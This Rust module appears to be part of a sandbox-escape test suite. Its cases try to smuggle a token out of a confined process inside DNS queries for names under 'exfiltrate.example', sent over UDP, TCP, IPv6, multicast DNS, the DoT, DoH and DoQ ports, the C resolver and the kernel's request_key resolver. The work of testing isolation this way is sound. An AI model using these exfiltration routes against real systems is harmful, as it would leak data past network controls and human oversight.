//! Names: data that leaves in questions, and answers that would move a target.

use crate::bypass::socket::{call, connect_and_tell, open, place, tcp, udp};
use crate::bypass::{Aim, Case, Done, Failed, FailedAt as _, Played};
use socket2::{Domain, SockAddr, Type};
use std::io::{Read as _, Write as _};
use std::net::{SocketAddr, ToSocketAddrs as _};

pub(super) fn cases() -> Vec<Case> {
    vec![
        Case::job("24a", "Data in a DNS question over UDP, to a name server of the job's choice", |aim| {
            ask(aim.to4_port(53), &query(&aim.token, 1), aim)
        }),
        Case::job("24b", "The same over IPv6", |aim| ask((aim.v6(), 53).into(), &query(&aim.token, 28), aim)),
        Case::job("24c", "The same, connected", |aim| {
            let socket = udp(aim.to4())?;
            socket.connect(&SockAddr::from(aim.to4_port(53))).at("connect")?;
            socket.send(&query(&aim.token, 16)).at("send")?;
            let mut answer = [0; 512];
            drop((&socket).read(&mut answer));
            Ok(Done::Sent)
        }),
        Case::job("24d", "What is no DNS at all, over UDP to port 53", |aim| ask(aim.to4_port(53), aim.token.as_bytes(), aim)),
        Case::job("24e", "A DNS question with a body behind it, over UDP to port 53", |aim| {
            let mut packet = query("localhost", 1);
            packet.extend(aim.token.as_bytes());
            ask(aim.to4_port(53), &packet, aim)
        }),
        Case::job("24f", "Data in a name, asked by the C library's resolver", |aim| {
            // What comes back, or doesn't, is not what counts.
            drop((format!("{}.exfiltrate.example", aim.token), 80).to_socket_addrs());
            Ok(Done::Sent)
        }),
        Case::job("24g", "DNS questions of every kind to the host's loopback device", |aim| {
            ask(aim.to_loopback(), &query(&aim.token, 255), aim)
        }),
        Case::job("24h", "Multicast DNS", |aim| ask(([224, 0, 0, 251], 5353).into(), &query(&aim.token, 1), aim)),
        Case::job("25a", "DNS over TCP", |aim| over_tcp(aim.to4_port(53), aim)),
        Case::job("25b", "DNS over TCP, IPv6", |aim| over_tcp((aim.v6(), 53).into(), aim)),
        Case::job("25c", "DNS over TLS's port", |aim| connect_and_tell(&tcp(aim.to4())?, aim.to4_port(853), aim)),
        Case::job("25d", "DNS over HTTPS's port, with a TLS greeting", |aim| {
            let socket = tcp(aim.to4())?;
            socket.connect(&SockAddr::from(aim.to4_port(443))).at("connect")?;
            let mut hello = vec![22, 3, 1, 0, 40];
            hello.extend(aim.token.as_bytes());
            (&socket).write_all(&hello).at("send")?;
            drop((&socket).read(&mut [0; 16]));
            Ok(Done::Sent)
        }),
        Case::job("25e", "DNS over QUIC's port", |aim| ask(aim.to4_port(853), &query(&aim.token, 1), aim)),
        Case::job("62a", "The kernel's own resolver (request_key dns_resolver)", keyring).kernel_part(),
    ]
}

/// A DNS question for `NAME.exfiltrate.example`.
fn query(name: &str, kind: u16) -> Vec<u8> {
    let mut packet = vec![0x12, 0x34, 1, 0, 0, 1, 0, 0, 0, 0, 0, 0];
    for label in [name, "exfiltrate", "example"] {
        packet.push(u8::try_from(label.len()).unwrap_or(63));
        packet.extend(label.as_bytes());
    }
    packet.push(0);
    packet.extend(kind.to_be_bytes());
    packet.extend([0, 1]);
    packet
}

/// Sends it and waits for an answer.
fn ask(to: SocketAddr, packet: &[u8], _: &Aim) -> Played {
    let socket = udp(to)?;
    socket.send_to(packet, &SockAddr::from(to)).at("sendto")?;
    let mut answer = [0; 512];
    let length = (&socket).read(&mut answer).unwrap_or(0);
    // The last four bits of the fourth byte: 5 is REFUSED (RFC 1035, 4.1.1).
    if length >= 12 && answer[3] & 0xf == 5 {
        Err(Failed { step: "the name server's answer: REFUSED", errno: None })
    } else {
        Ok(Done::Sent)
    }
}

fn over_tcp(to: SocketAddr, aim: &Aim) -> Played {
    let socket = open(Domain::for_address(to), Type::STREAM, None)?;
    socket.connect(&SockAddr::from(to)).at("connect")?;
    let question = query(&aim.token, 1);
    let mut message = Vec::from(u16::try_from(question.len()).unwrap_or(0).to_be_bytes());
    message.extend(question);
    (&socket).write_all(&message).at("send")?;
    drop((&socket).read(&mut [0; 512]));
    Ok(Done::Sent)
}

fn keyring(aim: &Aim) -> Played {
    let kind = b"dns_resolver\0";
    let name = format!("{}.exfiltrate.example\0", aim.token);
    call(libc::SYS_request_key, [place(kind), place(name.as_bytes()), place(b"\0"), 0, 0, 0]).at("request_key")?;
    Ok(Done::Sent)
}
